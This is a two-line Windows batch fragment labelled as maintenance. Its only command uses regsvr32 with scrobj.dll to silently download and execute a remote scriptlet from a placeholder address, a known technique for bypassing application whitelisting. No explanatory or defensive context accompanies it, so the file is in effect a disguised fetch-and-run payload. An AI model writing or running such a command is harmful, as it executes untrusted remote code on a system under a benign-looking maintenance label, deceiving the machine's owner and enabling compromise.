REM maintenance 9619 v4
regsvr32 /s /n /u /i:http://192.0.2.44/file.sct scrobj.dll
